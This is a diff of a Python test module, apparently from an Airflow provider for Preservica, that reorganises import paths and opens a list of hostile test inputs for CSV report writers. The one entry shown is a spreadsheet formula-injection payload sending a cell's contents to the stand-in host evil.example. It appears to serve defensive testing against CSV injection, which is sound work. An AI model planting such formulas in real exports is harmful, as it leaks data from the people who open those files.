@@ -7,14 +7,14 @@ import io
 from pathlib import Path
 
 from airflow_provider_preservica.client.search import SearchHit
+from airflow_provider_preservica.files.report_csv import read_back
 from airflow_provider_preservica.ingest.report import IngestReport
+from airflow_provider_preservica.ingest.staging import FileRecord, StagingManifest
+from airflow_provider_preservica.ingest.staging import write_report as write_staging_report
 from airflow_provider_preservica.metadata.model import Outcome, RowOutcome
 from airflow_provider_preservica.metadata.report import write_report as write_metadata_report
 from airflow_provider_preservica.metadata.runner import MetadataRun
-from airflow_provider_preservica.report_csv import read_back
-from airflow_provider_preservica.search_report import write_report as write_search_report
-from airflow_provider_preservica.staging import FileRecord, StagingManifest
-from airflow_provider_preservica.staging import write_report as write_staging_report
+from airflow_provider_preservica.search.report import write_report as write_search_report
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
